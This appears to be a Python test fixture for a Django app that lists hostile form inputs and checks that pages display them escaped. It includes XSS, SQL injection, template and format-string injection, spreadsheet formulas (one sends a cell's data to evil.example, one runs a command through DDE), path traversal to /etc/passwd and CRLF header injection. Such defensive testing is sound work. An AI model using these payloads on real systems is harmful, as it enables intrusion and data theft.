"""The hostile-input corpus: what people (and attackers) paste into forms, and the checks on what comes out.

`CORPUS` names each payload by what it is. `ACCEPTED` are ordinary text, however odd, which a form must take
and every page must show as typed, escaped; `REFUSED` are those a form must refuse with a message by the
field (control characters, text over the longest limit, only invisible characters where text is
required, line breaks in one-line fields). Lone surrogates cannot travel over HTTP (a browser cannot
encode them and Django decodes a bad byte as U+FFFD) but can reach a form or a service called from code,
so they are in `REFUSED_IN_CODE`.

`XSS` is the subset of markup payloads, with `assert_shown_escaped`/`assert_never_raw` (tests/xss.py
re-exports them under their old names).
"""

from __future__ import annotations

from django.utils.html import escape

XSS = [
    "<script>alert('xss')</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "javascript:alert(document.cookie)",
    '<a href="javascript:alert(1)">click</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "' onmouseover='alert(1)' x='",
    "<body onload=alert(1)>",
    "{{ 7|add:7 }} {% now 'Y' %}",
]

# Fragments that must never appear raw in a page that displays the payloads.
DANGEROUS = [
    "<script>alert",
    "<img src=x onerror",
    "<svg/onload",
    "<svg><script>",
    "<iframe",
    "<body onload",
    '<a href="javascript:',
]

LONG = 100_000  # "100 kB strings": longer than any limit CareDesk has (the policy text's 50,000)

# Ordinary text, however odd: accepted by every free-text field, shown exactly as typed (escaped).
ACCEPTED: dict[str, str] = {
    **{f"xss-{n}": payload for n, payload in enumerate(XSS)},
    "sql-drop": "Robert'); DROP TABLE recovery_complaint; --",
    "sql-or": "' OR '1'='1' --",
    "sql-like": "100% of the_time \\ 50%_off",
    "sql-sleep": "1; SELECT pg_sleep(10); --",
    "template-vars": "{{ request.user.password }} {{ settings.SECRET_KEY }}",
    "template-tags": "{% debug %}{% load static %}{% include 'base.html' %}",
    "template-other": "${7*7} #{7*7} <%= 7*7 %> {{7*'7'}}",
    "format-percent": "%s%s%s%n%x %(name)s %d",
    "format-braces": "{0} {name} {0.__class__.__mro__} {{}}",
    "right-to-left": "\u202egnp.exe\u202c report \u2066isolated\u2069 \u200fמלון\u200e and مرحبا",
    "zero-width-inside": "Jo\u200bhn\u200c Sm\u200dith\ufeff\u2060",
    "emoji": "Late again 😡👎🏽 👨‍👩‍👧‍👦 🇬🇧 ✓",
    "unicode-forms": "Ｆｕｌｌｗｉｄｔｈ café cafe\u0301 İstanbul Straße ǅ 𝕏",
    "formula-equals": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "formula-dde": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+1",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(A1:A9)",
    "quotes-and-commas": "He said \"no\", then; left 'angry', twice",
    "html-entities": "&lt;script&gt; &amp;amp; &#x3C;b&#x3E; &nbsp;",
    "path": "../../../etc/passwd %2e%2e%2f",
}

# Accepted only where a line break may be typed (the boxes of several lines, not names or one-line fields).
MULTI_LINE: dict[str, str] = {
    "markdown": "## Heading\n\n[click](javascript:alert(1)) ![x](http://evil.example/x.png) **bold**",
    "crlf-lines": "First line\r\nSecond line\r\n\r\nThird",
    "crlf-header": "Complaint\r\nBcc: everyone@example.org\r\nX-Injected: yes",
    "tab-first": "\t=1+1 after a tab",
}

# Refused everywhere, with a message by the field.
REFUSED: dict[str, str] = {
    "nul": "before\x00after",
    "escape": "red \x1b[31malert\x1b[0m",
    "bell": "ding\x07",
    "backspace": "abc\x08\x08\x08xyz",
    "delete": "rub\x7fout",
    "c1-next-line": "one\x85two",
    "vertical-tab": "one\x0btwo",
    "100kB": "A" * LONG,
    "100kB-emoji": "😡" * LONG,
}

# Refused by a form or a service, never sent over HTTP (see the module's docstring).
REFUSED_IN_CODE: dict[str, str] = {
    "lone-surrogate": "broken \ud83d emoji",
    "lone-low-surrogate": "\udc00",
}

# Refused where text is required: nothing a person could read.
BLANK: dict[str, str] = {
    "spaces": "   ",
    "whitespace": "\t\n\u00a0\u3000",
    "zero-width-only": "\u200b\u200c\u200d\ufeff\u2060",
    "direction-marks-only": "\u200e\u200f\u202a\u202c\u2066\u2069",
}

CORPUS: dict[str, str] = {**ACCEPTED, **MULTI_LINE, **REFUSED, **BLANK}

# Backwards-compatible name: the markup payloads (tests/xss.py's PAYLOADS).
PAYLOADS = XSS


def assert_never_raw(html: str, payload: str) -> None:
    """Assert the payload's markup never reaches the page live: not the payload itself, nor a fragment of it."""
    if escape(payload) != payload:
        assert payload not in html, f"payload found raw (unescaped) in page: {payload!r}"
    for fragment in DANGEROUS:
        if fragment in payload:
            assert fragment not in html, f"raw markup {fragment!r} found in page"


def assert_shown_escaped(html: str, payload: str) -> None:
    """Assert the payload appears escaped and none of its markup is live."""
    assert escape(payload) in html, f"payload not shown (escaped) in page: {payload[:80]!r}"
    assert_never_raw(html, payload)
